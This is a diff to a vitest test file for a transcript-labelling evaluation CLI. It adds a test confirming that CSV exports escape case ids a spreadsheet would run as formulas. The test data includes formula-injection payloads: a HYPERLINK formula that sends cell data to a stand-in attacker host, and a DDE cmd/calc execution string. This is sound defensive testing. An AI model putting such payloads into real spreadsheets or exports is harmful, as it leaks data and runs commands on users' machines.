@@ -2,7 +2,8 @@
  * regression guard on the dev half only, comparison of lexicon versions, usage errors. The
  * held-out half is never asserted here: a test that gates on it pulls every fix toward its cases
  * (its figures are reported in the README instead). */
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -84,6 +85,24 @@ describe('honne eval', () => {
       expect(edited.lineage.prompt_hash.ja).not.toBe(same.lineage.prompt_hash.ja);
       expect(edited.lineage.prompt_hash.en).toBe(same.lineage.prompt_hash.en);
       expect(edited.compare?.comparison.cases.length).toBeGreaterThan(0);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('exports a gold set whose case ids a spreadsheet would run as formulas as text', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'honne-eval-formula-'));
+    try {
+      const gold = join(dir, 'gold');
+      mkdirSync(gold);
+      writeFileSync(join(gold, 't.txt'), 'CC: 最近はいかがですか。\n社員: 夜勤が増えて体がきついです。\n');
+      const ids = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '－1+2', '+3'];
+      writeFileSync(join(gold, 'cases.jsonl'), ids.map((id) => JSON.stringify({ id, transcript: 't.txt', consultant_speaker: 'CC', labels: { themes: ['health'], retention_risk: 'low', mental_health_risk: 'medium' } })).join('\n') + '\n');
+      const csv = join(dir, 'cases.csv');
+      const r = await honne(['eval', '--gold', gold, '--export', csv, '--no-history']);
+      expect(r.code).toBe(0);
+      const rows = parse(readFileSync(csv, 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
+      expect(rows.map((row) => row.id)).toEqual(ids.map((id) => `'${id}`));
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
